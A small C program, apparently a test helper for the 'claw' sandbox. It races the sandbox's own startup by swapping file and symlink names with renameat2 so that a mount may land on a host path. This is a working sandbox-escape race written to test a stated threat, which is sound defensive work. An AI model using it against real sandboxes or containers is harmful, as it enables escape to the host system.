/* race: rename games against claw's own start-up (claw-sandbox(1) threat 11). From inside a
 * sandbox with a writable workspace, swaps each pair of names with
 * renameat2(RENAME_EXCHANGE) as fast as it can, so that a sandbox starting
 * meanwhile on the same workspace may find a directory where it checked one
 * and a symlink to the host where it mounts. Arguments: a file whose
 * appearance ends the loop, the most rounds to make, then pairs of names.
 * A name not there yet is waited for. Prints "racing" once the loop runs, and
 * the rounds made at the end. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	long max, rounds = 0;

	if (argc < 5 || (argc - 3) % 2 != 0) {
		fprintf(stderr, "usage: race STOPFILE MAXROUNDS A B [A B ...]\n");
		return 2;
	}
	max = atol(argv[2]);
	printf("racing\n");
	fflush(stdout);
	for (; rounds < max; rounds++) {
		if (rounds % 4096 == 0 && access(argv[1], F_OK) == 0)
			break;
		for (int i = 3; i + 1 < argc; i += 2)
			if (renameat2(AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], RENAME_EXCHANGE) <
			        0 &&
			    errno != ENOENT) {
				perror("renameat2");
				return 1;
			}
	}
	printf("%ld rounds\n", rounds);
	return 0;
}
